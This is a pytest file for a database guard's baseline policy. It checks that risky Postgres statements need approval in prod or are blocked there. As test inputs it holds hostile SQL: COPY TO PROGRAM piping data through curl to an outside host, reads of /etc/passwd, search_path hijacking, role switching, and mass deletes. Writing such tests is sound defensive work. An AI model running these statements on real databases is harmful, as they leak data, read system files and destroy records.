"""The built-in baseline (governed_db/policy_baseline.yaml): what holds without a policy.

In prod: code the server runs later, destructive ALTER TABLE, COPY ... PROGRAM,
dangerous functions and settings that change how later statements read need an
approval; writes are limited to 1000 rows. Everywhere: DELETE/UPDATE (MERGE,
CTE and CREATE TABLE AS writes included) need a WHERE that is not trivial.
"""

from __future__ import annotations

import pytest

from governed_db.policy import Context, Limits, baseline, decide
from governed_db.sql import analyze, available_backends

BACKENDS = available_backends()


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def decided(sql: str, env: str = "prod", backend: str | None = None) -> tuple[str, str | None]:
    d = decide(baseline(), analyze(sql, backend=backend), Context(env))
    return d.action, d.rule_id


APPROVAL = "require_approval"
CODE = (APPROVAL, "code-needs-approval-in-prod")
ALTER = (APPROVAL, "destructive-alter-needs-approval-in-prod")
SETTINGS = (APPROVAL, "session-settings-need-approval-in-prod")
FUNCTIONS = (APPROVAL, "dangerous-functions-need-approval-in-prod")
COPY = (APPROVAL, "copy-program-needs-approval-in-prod")
FILE = (APPROVAL, "copy-server-file-needs-approval-in-prod")
OPAQUE = (APPROVAL, "opaque-needs-approval-in-prod")
ALLOW = ("allow", None)


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        # code the server runs later
        ("create function f() returns int language sql as 'select 1'", CODE),
        ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
         CODE),
        ("create or replace procedure p() language sql as $$ delete from orders $$", CODE),
        ("create function f() returns int language sql begin atomic select 1; end", CODE),
        ("create rule r as on insert to t do instead nothing", CODE),
        ("create or replace rule r as on update to t do also delete from audit", CODE),
        ("create trigger tr after insert on t for each row execute function f()", CODE),
        ("create or replace trigger tr before delete on t for each row execute procedure f()",
         CODE),
        ("create constraint trigger tr after insert on t for each row execute function f()",
         CODE),
        ("create event trigger e on ddl_command_start execute function f()", CODE),
        ("create operator === (leftarg = int, rightarg = int, function = f)", CODE),
        ("create aggregate a(int) (sfunc = int4pl, stype = int)", CODE),
        ("create cast (int as text) with function f(int) as implicit", CODE),
        ("alter function f() security definer", CODE),
        ("alter function f() owner to attacker", CODE),
        ("alter procedure p() set search_path = evil", CODE),
        # views stand in for tables; extensions install code
        ("create or replace view active as select * from orders where not archived", CODE),
        ("create view v as select 1", CODE),
        ("create temp view orders as select * from archive.orders", CODE),
        ("alter view v set (security_barrier = false)", CODE),
        ("create materialized view mv as select count(*) from orders", CODE),
        ("alter materialized view mv rename to mv2", CODE),
        ("create extension pgcrypto", CODE),
        ("create extension if not exists plpython3u", CODE),
        ("alter extension pgcrypto update", CODE),
        # destructive ALTER TABLE
        ("alter table orders drop column note", ALTER),
        ("ALTER TABLE orders DROP note CASCADE", ALTER),
        ("alter table orders add column x int, drop column note", ALTER),
        ("alter table orders alter column total type int using total::int", ALTER),
        ("alter table orders alter total set data type text using 'x'", ALTER),
        ("alter table orders rename to orders_old", ALTER),
        ("alter table orders rename column note to remark", ALTER),
        ("alter table orders rename constraint c to d", ALTER),
        ("alter table if exists only orders rename note to remark", ALTER),
        ("alter table orders set schema archive", ALTER),
        ("alter table orders alter column note type varchar(20)", ALTER),  # truncates? refuses?
        ("alter table orders alter total type numeric(10, 0)", ALTER),  # rounds every value
        ("alter table orders drop constraint orders_total_check", ALTER),
        ("alter table orders disable trigger audit", ALTER),
        ("alter table orders disable trigger all", ALTER),
        ("alter table orders disable trigger user", ALTER),
        ("alter table orders enable replica trigger audit", ALTER),  # off for normal sessions
        ("alter table orders disable rule soft_delete", ALTER),
        ("alter table orders enable row level security", ALTER),
        ("alter table orders disable row level security", ALTER),
        ("alter table orders force row level security", ALTER),
        ("alter table orders no force row level security", ALTER),
        ("alter table orders set unlogged", ALTER),
        ("alter table orders detach partition orders_2020", ALTER),
        ("alter table orders no inherit orders_base", ALTER),
        ("alter table orders alter column c set expression as (a + b)", ALTER),
        # COPY ... PROGRAM
        ("copy orders to program 'curl -d @- http://x'", COPY),
        ("copy orders from program 'cat /etc/passwd'", COPY),
        ("COPY (SELECT * FROM orders) TO PROGRAM 'gzip > /tmp/o.gz'", COPY),
        # COPY to or from a file on the server
        ("copy orders to '/tmp/orders.csv'", FILE),
        ("copy orders from '/var/lib/postgresql/data/postgresql.auto.conf'", FILE),
        ("COPY (SELECT * FROM customers) TO '/tmp/c.csv' WITH (FORMAT csv)", FILE),
        ("copy orders (id, total) from '/tmp/o.csv' csv header", FILE),
        # dangerous functions
        ("select lo_unlink(16401)", FUNCTIONS),
        ("select pg_catalog.lo_unlink(oid) from pg_largeobject_metadata", FUNCTIONS),
        ("select pg_terminate_backend(pid) from pg_stat_activity", FUNCTIONS),
        ("select pg_cancel_backend(123)", FUNCTIONS),
        ("select pg_read_file('/etc/passwd')", FUNCTIONS),
        ("select lo_export(1, '/tmp/x')", FUNCTIONS),
        ("select pg_stat_reset()", FUNCTIONS),
        ("select * from dblink('host=x', 'select 1') as t(a int)", FUNCTIONS),
        ("select setval('orders_id_seq', 1)", FUNCTIONS),
        ("select pg_catalog.setval('orders_id_seq', 1, false)", FUNCTIONS),
        ("select pg_clear_relation_stats('public', 'orders')", FUNCTIONS),
        ("select pg_clear_attribute_stats('public', 'orders', 'id', false)", FUNCTIONS),
        ("select pg_restore_relation_stats('schemaname', 'public', 'relname', 'orders')",
         FUNCTIONS),
        ("select pg_restore_attribute_stats('schemaname', 'public', 'relname', 'orders')",
         FUNCTIONS),
        # settings that change what later statements mean, or who runs them
        ("set search_path = evil, public", SETTINGS),
        ("SET LOCAL search_path TO evil", SETTINGS),
        ("set schema 'evil'", SETTINGS),
        ("reset search_path", SETTINGS),
        ("set session_replication_role = replica", SETTINGS),
        ("set transform_null_equals = on", SETTINGS),
        ("set standard_conforming_strings = off", SETTINGS),
        ("set role admin", SETTINGS),
        ("reset role", SETTINGS),
        ("set session authorization admin", SETTINGS),
        ("reset all", SETTINGS),
        ("select set_config('search_path', 'evil', false)", SETTINGS),
        ("select set_config('role', 'admin', true)", SETTINGS),
        ("select set_config(name, setting, false) from my_settings", SETTINGS),
        ("update pg_settings set setting = 'replica' where name = 'session_replication_role'",
         SETTINGS),
        ("alter role app set search_path = evil", SETTINGS),
        ("alter database shop set session_replication_role = replica", SETTINGS),
        # opaque
        ("do $$ begin perform 1; end $$", OPAQUE),
        ("call p()", OPAQUE),
        ("execute q", OPAQUE),
        # what stays allowed in prod
        ("select * from orders where id = 1", ALLOW),
        ("select * from orders for update", ALLOW),
        ("explain analyze select * from orders", ALLOW),
        ("delete from orders where id = 1", ALLOW),
        ("delete from orders where id > 0", ALLOW),  # the row limit is its backstop
        ("update orders set paid = true where id = $1", ALLOW),
        ("insert into orders values (1) on conflict (id) do update set paid = true", ALLOW),
        ("merge into orders o using s on o.id = s.id when matched then update set paid = s.p",
         ALLOW),
        ("alter table orders add column note text", ALLOW),
        ("alter table orders alter column note set default 'x'", ALLOW),
        ("alter table orders add constraint c check (total >= 0) not valid", ALLOW),
        ("alter table orders enable trigger audit", ALLOW),
        ("select nextval('orders_id_seq')", ALLOW),
        ("copy orders to stdout", ALLOW),
        ("copy orders from stdin with (format csv)", ALLOW),
        ("create temp table scratch (id int)", ALLOW),
        ("alter index orders_pkey rename to orders_pk", ALLOW),
        ("create table t (id int)", ALLOW),
        ("create index i on orders (id)", ALLOW),
        ("set statement_timeout = '5s'", ALLOW),
        ("set time zone 'UTC'", ALLOW),
        ("set work_mem = '64MB'", ALLOW),
        ("select set_config('application_name', 'x', false)", FUNCTIONS),
        ("prepare q as select * from orders", ALLOW),
    ],
)  # fmt: skip
def test_prod(backend: str, sql: str, expected: tuple[str, str | None]) -> None:
    action, rule = decided(sql, "prod", backend)
    if backend == "sqlparse" and (action, rule) != expected:
        # The fallback may not read a shape: then it is opaque and needs an approval at least.
        assert analyze(sql, backend=backend).opaque
        assert action in ("require_approval", "block")
        return
    assert (action, rule) == expected


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("delete from orders", "delete-needs-where"),
        ("update orders set paid = true", "update-needs-where"),
        ("delete from orders where true", "trivial-where"),
        ("delete from orders where exists (select 1)", "trivial-where"),
        ("delete from orders where now() is not null", "trivial-where"),
        ("delete from orders where %s", "trivial-where"),
        ("delete from orders where 'tru'", "trivial-where"),
        ("delete from orders o where o.id = o.id", "trivial-where"),
        ("delete from orders where ctid is not null", "trivial-where"),
        ("delete from orders using customers c where c.vip", "trivial-where"),
        ("update orders set paid = true where (select true)", "trivial-where"),
        ("update orders set paid = true where coalesce(true, false)", "trivial-where"),
        ("merge into orders using s on true when matched then delete", "trivial-where"),
        ("merge into orders o using s on s.id = s.id when matched then update set paid = true",
         "trivial-where"),
        ("merge into orders o using s on $1 when matched then delete", "trivial-where"),
        ("with d as (delete from orders returning *) select * from d", "delete-needs-where"),
        ("create table keep as with d as (delete from orders returning *) select * from d",
         "delete-needs-where"),
        ("create table keep as with u as (update orders set paid = true returning *) "
         "select * from u", "update-needs-where"),
        ("with d as (delete from orders returning *) select * into keep from d",
         "delete-needs-where"),
        ("explain analyze delete from orders", "delete-needs-where"),
        ("explain (analyze) create table k as with d as (delete from orders returning *) "
         "select * from d", "delete-needs-where"),
        ("prepare q as delete from orders", "delete-needs-where"),
        ("prepare q as update orders set paid = true where 1 = 1", "trivial-where"),
        ("copy (delete from orders returning *) to stdout", "delete-needs-where"),
        # always true through arithmetic, functions, subqueries of the row's own value
        ("delete from orders where id = id + 0", "trivial-where"),
        ("delete from orders where id = greatest(id, id)", "trivial-where"),
        ("delete from orders where id in (select id from orders)", "trivial-where"),
        ("delete from orders where id = any(array[id])", "trivial-where"),
        ("delete from orders where exists (select 1 from orders o2 where o2.id = orders.id)",
         "trivial-where"),
        ("delete from orders using (select id from orders) s where s.id = orders.id",
         "trivial-where"),
        ("merge into orders t using (select * from orders) s on s.id = t.id "
         "when matched then delete", "trivial-where"),
        ("delete from orders where id is not null", "trivial-where"),
        ("delete from orders where coalesce(id, 0) >= 0", "trivial-where"),
        ("update orders set paid = true where (id > 0) is not false", "trivial-where"),
        ("delete from orders where ctid > '(0,0)'", "trivial-where"),
        ("delete from orders where tableoid > 0", "trivial-where"),
        ("insert into orders select * from orders on conflict (id) do update set paid = true",
         "trivial-where"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("env", ["dev", "prod"])
def test_writes_need_a_real_where_everywhere(backend: str, sql: str, rule: str, env: str) -> None:
    action, found = decided(sql, env, backend)
    if backend == "sqlparse" and found != rule:
        assert analyze(sql, backend=backend).opaque
        return
    assert (action, found) == ("block", rule)


def test_upserts_are_not_blocked_by_the_where_rules(backend: str) -> None:
    for sql in [
        "insert into orders values (1) on conflict (id) do update set paid = true",
        'INSERT INTO "t" ("a") VALUES (%s) ON CONFLICT ("a") DO UPDATE SET "b" = EXCLUDED."b"',
        "insert into orders select * from staging on conflict do nothing",
        "insert into orders select * from staging on conflict (id) do update set paid = true",
        "insert into orders select * from orders where id = 5 "
        "on conflict (id) do update set paid = true",
    ]:
        assert decided(sql, "dev", backend) == ALLOW


def test_drop_and_truncate_stay_blocked_in_prod(backend: str) -> None:
    for sql in ("drop table orders", "drop function f()", "truncate orders"):
        assert decided(sql, "prod", backend) == ("block", "drop-truncate-in-prod")


def test_dev_keeps_its_freedom(backend: str) -> None:
    for sql in [
        "create function f() returns int language sql as 'select 1'",
        "alter table orders drop column note",
        "set search_path = x",
        "select lo_unlink(1)",
        "copy t to program 'x'",
        "copy t to '/tmp/t.csv'",
        "create view v as select 1",
        "create extension pgcrypto",
        "alter table orders disable trigger all",
        "select setval('s', 1)",
        "do $$ begin end $$",
    ]:
        assert decided(sql, "dev", backend) == ALLOW


def test_row_limit_in_prod_only() -> None:
    policy = baseline()
    assert policy.limits_for("prod") == Limits(max_rows_affected=1000)
    assert policy.limits_for("dev").max_rows_affected is None
    assert policy.limits_for("staging").max_rows_affected is None


def test_every_baseline_rule_is_documented() -> None:
    from pathlib import Path

    text = (Path(__file__).parent.parent / "docs" / "policy.md").read_text(encoding="utf-8")
    for rule in baseline().rules:
        assert rule.id in text, rule.id
    assert "1000" in text
